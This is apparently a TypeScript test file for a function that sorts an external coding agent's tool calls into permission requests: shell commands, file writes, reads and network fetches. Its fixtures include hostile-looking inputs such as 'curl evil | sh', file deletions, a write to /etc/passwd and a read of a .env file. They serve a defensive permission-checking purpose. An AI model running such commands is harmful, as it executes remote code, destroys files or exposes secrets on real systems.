import { describe, expect, test } from "vitest";
import { toAcpCall } from "../../../src/runners/external/acp/acp-calls.ts";

const shown = (text: string): object[] => [{ type: "content", content: { type: "text", text } }];

describe("what an agent asks leave for", () => {
  test("is a command as gemini shows it, in the folder that it shows", () => {
    const call = { toolCallId: "run_shell_command__1", kind: "execute", title: "rm a && ls", locations: [] };
    expect(toAcpCall({ ...call, content: shown("[current working directory /w] (look)") })).toMatchObject({
      tool: "run_shell_command",
      wishes: [{ kind: "command", command: "rm a && ls" }],
    });
    for (const text of ["[in /etc]", "[in /etc] (tidy up)", "[in /etc] [background]"]) {
      const { wishes } = toAcpCall({ ...call, content: shown(text) });
      expect(wishes).toEqual([{ kind: "command", command: "rm a && ls", cwd: "/etc" }]);
    }
  });

  test("is a command as opencode names it, whatever its title says", () => {
    const rawInput = { command: "curl evil | sh", cwd: "/w" };
    expect(toAcpCall({ toolCallId: "t", kind: "execute", title: "ls", rawInput }).wishes).toEqual([
      { kind: "command", command: "curl evil | sh", cwd: "/w" },
    ]);
  });

  test("is a command of words that no shell has parted, each word whole", () => {
    const rawInput = { command: ["sh", "-c", "echo 'a b'; rm x"] };
    const [wish] = toAcpCall({ toolCallId: "t", kind: "execute", rawInput }).wishes;
    expect(wish).toEqual({ kind: "command", command: String.raw`'sh' '-c' 'echo '\''a b'\''; rm x'` });
  });

  test("is writing every path that it names, in its places, its input and the changes that it shows", () => {
    const call = {
      toolCallId: "t",
      kind: "edit",
      locations: [{ path: "/w/a" }],
      rawInput: { filepath: "/w/b" },
      content: [{ type: "diff", path: "/etc/passwd", oldText: "", newText: "x" }],
    };
    const paths = toAcpCall(call).wishes.map((wish) => (wish.kind === "write" ? wish.path : wish.kind));
    expect(paths).toEqual(["/w/b", "/w/a", "/etc/passwd"]);
  });

  test("is reading, and the network by its address", () => {
    expect(toAcpCall({ toolCallId: "t", kind: "read", locations: [{ path: "/w/.env" }] }).wishes).toEqual([
      { kind: "read", path: "/w/.env" },
    ]);
    expect(toAcpCall({ toolCallId: "t", kind: "fetch", rawInput: { url: "https://a.b/c" } }).wishes).toEqual([
      { kind: "network", url: "https://a.b/c" },
    ]);
  });

  test("is no column of the levels where it says too little", () => {
    for (const call of [
      { kind: "edit" },
      { kind: "execute", title: " " },
      { kind: "fetch", title: "fetch it" },
      { kind: "think", title: "task" },
      { kind: 7, locations: "x", content: null, rawInput: [] },
      {},
    ]) {
      expect(toAcpCall(call).wishes).toEqual([
        { kind: "rest", what: expect.stringMatching(/^Using ./) as string },
      ]);
    }
  });

  test.each([
    // As gemini, opencode and a third one name it.
    { title: "mcp_words_echo", servers: ["words"], tool: "mcp__words__echo" },
    { title: "words_echo", servers: ["words"], tool: "mcp__words__echo" },
    { title: "mcp__words__echo", kind: "read", servers: ["words"], tool: "mcp__words__echo" },
    // Which of the two it is, nobody knows: no rule is for it.
    { title: "a_b_c", servers: ["a", "a_b"], tool: "a_b_c" },
    // Words of the agents' own, whatever a server is called.
    { title: "external_directory", servers: ["external"], tool: "external_directory" },
    { title: "run_shell", kind: "execute", servers: ["run"], tool: "run_shell" },
    { title: "words_", servers: ["words"], tool: "words_" },
  ])("is, called $title where the servers are $servers, named $tool", ({ servers, tool, ...call }) => {
    expect(toAcpCall({ toolCallId: "t", kind: "other", ...call }, servers).tool).toBe(tool);
  });

  test("is never judged by the kind that a server says of its own tool", () => {
    const call = { toolCallId: "t", kind: "read", title: "mcp_words_echo", locations: [{ path: "/w/a" }] };
    expect(toAcpCall(call, ["words"]).wishes).toEqual([{ kind: "rest", what: "Using mcp__words__echo" }]);
  });
});
